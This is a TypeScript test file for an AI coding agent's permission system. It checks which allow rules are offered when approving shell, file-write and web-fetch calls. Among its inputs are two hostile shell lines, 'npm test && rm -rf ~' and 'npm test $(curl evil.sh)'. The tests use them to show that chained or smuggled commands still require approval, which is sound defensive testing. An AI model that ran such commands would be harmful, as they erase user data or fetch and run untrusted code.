// "Allow like this" with choices (issue 14 item 4): exactly this call, or a wider pattern where it
// makes sense, shown as the rule itself; the view sends back only an index.
import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import type { PermissionRule } from '../../../../src/core/config';
import type { ApprovalRequest } from '../../../../src/core/host';
import { evaluatePermission } from '../../../../src/core/policy';
import type { ShellAnalyzer } from '../../../../src/core/shell/analysis';
import { ApprovalBroker } from '../../../../src/hosts/vscode/approval-state';
import { ruleChoices } from '../../../../src/hosts/vscode/rule-choices';
import { loadShellAnalyzer } from '../../../../src/hosts/node/shell-parser';

const root = '/work/project';
let shell: ShellAnalyzer;
before(async () => {
  shell = await loadShellAnalyzer();
});

function request(tool: string, subject: string | undefined): ApprovalRequest {
  return {
    callId: 'c1',
    sessionId: 's1',
    tool,
    arguments: {},
    declarations: { effect: 'SideEffecting', replay: 'Never', concurrency: 'Exclusive' },
    reason: 'strict mode asks before every call with side effects, and no allow rule covers this one',
    ...(subject !== undefined ? { subject } : {}),
  };
}

const rules = (tool: string, subject: string | undefined): PermissionRule[] =>
  ruleChoices(request(tool, subject), root).map((choice) => choice.rule);

/** What the real policy does with a shell line under one rule, in strict mode. */
const shellDecision = (rule: PermissionRule, line: string): string =>
  evaluatePermission({
    tool: 'shell',
    declarations: { effect: 'SideEffecting', replay: 'Never', concurrency: 'Exclusive' },
    subjects: [{ kind: 'command', value: line }],
    permission: { mode: 'strict', rules: [rule] },
    workspaceRoot: root,
    shell,
  }).action;

test('issue 14 item 4: a shell line offers exactly this line, or the command with any arguments (npm test *)', () => {
  const choices = ruleChoices(request('shell', 'npm test -- --grep "cart*"'), root);
  assert.deepEqual(
    choices.map((choice) => [choice.label, choice.rule.match]),
    [
      ['exactly this', 'npm test -- --grep "cart\\*"'],
      ['npm test with any arguments', 'npm test *'],
    ],
  );
  assert.deepEqual(
    rules('shell', 'ls -la src').map((rule) => rule.match),
    ['ls -la src', 'ls *'],
  );
  assert.deepEqual(
    rules('shell', 'node scripts/build.js').map((rule) => rule.match),
    ['node scripts/build.js', 'node *'],
  );
  assert.deepEqual(
    rules('shell', 'git status').map((rule) => rule.match),
    ['git status', 'git status *'],
  );
});

test('issue 14 item 4: the offered rules do what they say under the real policy, and `npm test *` never covers a chained command', () => {
  const [exact, wider] = rules('shell', 'npm test -- --grep cart');
  assert.ok(exact !== undefined && wider !== undefined);
  assert.equal(shellDecision(exact, 'npm test -- --grep cart'), 'allow');
  assert.equal(shellDecision(exact, 'npm test -- --grep other'), 'ask');
  assert.equal(shellDecision(wider, 'npm test -- --grep other'), 'allow');
  assert.equal(shellDecision(wider, 'npm test && rm -rf ~'), 'ask');
  assert.equal(shellDecision(wider, 'npm testify'), 'ask');
  assert.equal(shellDecision(wider, 'npm test $(curl evil.sh)'), 'ask');
});

test('issue 14 item 4: a file offers its folder, a URL its site; a root file, an outside path or a bare tool only the exact rule', () => {
  assert.deepEqual(
    rules('write', `${root}/src/lib/cart.js`).map((rule) => rule.match),
    ['src/lib/cart.js', 'src/lib/**'],
  );
  assert.deepEqual(
    rules('apply_patch', `${root}/README.md`).map((rule) => rule.match),
    ['README.md'],
  );
  assert.deepEqual(
    rules('write', '/elsewhere/x.txt').map((rule) => rule.match),
    ['/elsewhere/x.txt'],
  );
  assert.deepEqual(
    rules('webfetch', 'https://docs.example.com/a/b?c=1').map((rule) => rule.match),
    ['https://docs.example.com/a/b\\?c=1', 'https://docs.example.com/*'],
  );
  assert.deepEqual(ruleChoices(request('todo_update', undefined), root), [
    { label: 'every todo_update call', rule: { tool: 'todo_update', action: 'allow' } },
  ]);
});

test('issue 14 item 4: the broker adds the chosen rule; an index the host never offered falls back to the exact rule', async () => {
  const added: PermissionRule[] = [];
  const broker = new ApprovalBroker(
    {
      post: () => undefined,
      showDiff: async () => undefined,
      proposedText: async () => undefined,
      unsavedPaths: () => [],
      currentText: async () => undefined,
      addAllowRule: async (rule) => {
        added.push(rule);
      },
      discardProposals: async () => undefined,
    },
    root,
  );
  const signal = new AbortController().signal;
  const first = broker.request({ ...request('shell', 'npm test -- --grep x'), callId: 'a' }, signal);
  assert.deepEqual(
    broker.pending()[0]?.ruleChoices?.map((choice) => choice.rule.match),
    ['npm test -- --grep x', 'npm test *'],
  );
  await broker.decide('a', { approved: true, allowLikeThis: true, ruleChoice: 1 });
  assert.deepEqual(await first, { approved: true, addedRule: { tool: 'shell', match: 'npm test *', action: 'allow' } });
  const second = broker.request({ ...request('shell', 'make'), callId: 'b' }, signal);
  await broker.decide('b', { approved: true, allowLikeThis: true, ruleChoice: 7 });
  assert.deepEqual(await second, { approved: true, addedRule: { tool: 'shell', match: 'make', action: 'allow' } });
  assert.deepEqual(
    added.map((rule) => rule.match),
    ['npm test *', 'make'],
  );
});

test('issue 12: every "Allow like this" choice for a call outside the sandbox says sandbox: "off"', () => {
  const request: ApprovalRequest = {
    callId: 'c1',
    sessionId: 's',
    tool: 'shell',
    arguments: { command: 'npm publish --tag next', sandbox: 'off' },
    declarations: { effect: 'SideEffecting', replay: 'Never', concurrency: 'Exclusive' },
    subject: 'npm publish --tag next',
    reason: 'outside the sandbox',
  };
  const choices = ruleChoices(request, '/work');
  assert.ok(choices.length >= 2);
  for (const choice of choices) assert.equal(choice.rule.sandbox, 'off', choice.label);
  assert.ok(
    ruleChoices({ ...request, arguments: { command: 'npm publish --tag next' } }, '/work').every(
      (choice) => choice.rule.sandbox === undefined,
    ),
  );
});
